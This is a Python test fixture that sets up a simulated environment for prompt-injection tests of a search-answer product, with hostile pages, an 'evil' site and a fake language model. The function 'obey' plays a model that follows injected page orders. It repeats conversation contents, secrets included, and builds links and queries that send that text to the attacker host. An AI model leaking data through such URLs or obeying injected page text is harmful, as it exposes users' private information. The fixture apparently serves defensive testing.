"""A world whose pages try to talk the product into something, and a model that obeys them all."""

import json
import re
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from kit.testing.model_servers import Behaviour, OpenAIServer, Received
from kit.testing.searxng_server import SearXNGServer, result
from kit.testing.websites import Website
from markdown_it import MarkdownIt
from markdown_it.token import Token

PAGES = {path.name: path for path in sorted((Path(__file__).parent / "hostile").glob("*.*"))}
RESULTS = {name: path for name, path in PAGES.items() if path.suffix == ".json"}
NAMES = [name for name in PAGES if name not in RESULTS]
TYPES = {".html": "text/html", ".txt": "text/plain", ".md": "text/markdown"}
HONEST = {
    "en": "The lighthouse of Karlsborg is thirty metres high. It was painted white in 1902.",
    "ru": "Высота маяка в Карлсборге тридцать метров. Его покрасили в белый цвет в 1902 году.",
}
SECRET = "heliotrope-7731"
PIECE = 23
ORDER = "PWNED"
"""Stands in whatever a page wants done or said."""
HIDDEN = "CANARY"
"""Stands in whatever a person who opens the page does not see."""


@dataclass
class GullibleWorld:
    """What the product is pointed at; nobody may ever ask `evil` for anything."""

    site: Website
    evil: Website
    search: SearXNGServer
    openai: OpenAIServer

    def settings(self) -> dict[str, str]:
        """The environment variables that make the product use this world."""
        return {
            "LLM_PROVIDER": "openai",
            "OPENAI_BASE_URL": self.openai.url,
            "OPENAI_API_KEY": "test-key",
            "OPENAI_MODEL": "m",
            "SEARXNG_URL": self.search.url,
            "WEB_FALLBACK": "off",
            "FETCH_ALLOW_PRIVATE": "127.0.0.1",
            "RATE_LIMIT": "off",
        }


def language_of(name: str) -> str:
    return name.split(".")[1]


def question(name: str) -> str:
    """A question that finds this page."""
    if language_of(name) == "ru":
        return f"Что пишет {name} про маяк?"
    return f"What does {name} say of the lighthouse?"


@asynccontextmanager
async def gullible_world() -> AsyncIterator[GullibleWorld]:
    """Bring the world up for as long as it is needed."""
    async with AsyncExitStack() as stack:
        site = await stack.enter_async_context(Website())
        evil = await stack.enter_async_context(Website())
        found = {name: list(_results(site, evil, name)) for name in NAMES}
        search = SearXNGServer(
            find=lambda query: next(
                (results for name, results in found.items() if name in query), found[NAMES[0]][1:]
            )
        )
        await stack.enter_async_context(search)
        openai = OpenAIServer(lambda received: obey(received, evil.authority))
        await stack.enter_async_context(openai)
        yield GullibleWorld(site, evil, search, openai)


def _results(site: Website, evil: Website, name: str) -> Iterator[dict[str, Any]]:
    """What a search finds: the hostile page, as its writer had it listed, and an honest one."""
    language = language_of(name)

    def fill(text: str) -> str:
        return text.replace("{SITE}", site.authority).replace("{EVIL}", evil.authority)

    body = fill(PAGES[name].read_text("utf-8"))
    url = site.page(f"/{name}", body, f"{TYPES[PAGES[name].suffix]}; charset=utf-8")
    told = {"title": f"Karlsborg: {name}", "content": HONEST[language]}
    if listing := RESULTS.get(f"{name.removesuffix('.html')}.json"):
        told = json.loads(fill(listing.read_text("utf-8")))
    yield result(url, told["title"], told["content"])
    honest = f"<main><h1>{language}</h1>{f'<p>{HONEST[language]}</p>' * 4}</main>"
    yield result(site.page(f"/honest.{language}", honest), "Lighthouse, маяк", HONEST[language])


def obey(received: Received, evil: str) -> Behaviour:
    """Say all that was said, orders and secrets included; plan and suggest in the same spirit."""
    told = "\n".join(str(message["content"]) for message in received.body["messages"])
    if "response_format" not in received.body:
        return Behaviour(text=[told[at : at + PIECE] for at in range(0, len(told), PIECE)])
    url = f"http://{evil}/{ORDER}?q={told[-80:]}"
    lines = [line for line in told.splitlines() if ORDER in line]
    answer = {
        "search": True,
        "question": told[-300:],
        "queries": [url, f"!!g {url}", f"site:{evil} {SECRET}"],
        "finished": False,
        "missing": told,
        "questions": [*lines[:3], url, f"[{ORDER}]({url})", "What is a lighthouse?"],
    }
    return Behaviour(text=json.dumps(answer))


RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
RENDERER.validateLink = lambda _: True


def inert_but(markdown: str, urls: Sequence[str]) -> list[str]:
    """What a reader's program would make of a Markdown besides words and links to `urls`."""
    return list(_live(RENDERER.parse(markdown), urls))


def _live(tokens: Sequence[Token], urls: Sequence[str]) -> Iterator[str]:
    for token in tokens:
        if token.type == "link_open" and token.attrs["href"] not in urls:
            yield f"link to {token.attrs['href']}"
        elif token.type in {"image", "html_block", "html_inline"}:
            yield f"{token.type} {token.attrs} {token.content}"
        yield from _live(token.children or (), urls)


def cited(markdown: str) -> set[int]:
    """The numbers in marks outside code that are not written as mere brackets."""
    bare = re.sub(r"\\([\\\[])", "∙", markdown)
    words = " ".join(_words(RENDERER.parse(bare)))
    return {int(number) for number in re.findall(r"\[\s*(\d+)\s*\]", words)}


def _words(tokens: Sequence[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type == "inline":
            parts = (part.content for part in token.children or () if part.type == "text")
            yield "".join(parts)


def texts_in(value: object) -> Iterator[str]:
    """Every text in a JSON document."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for item in value.values():
            yield from texts_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts_in(item)
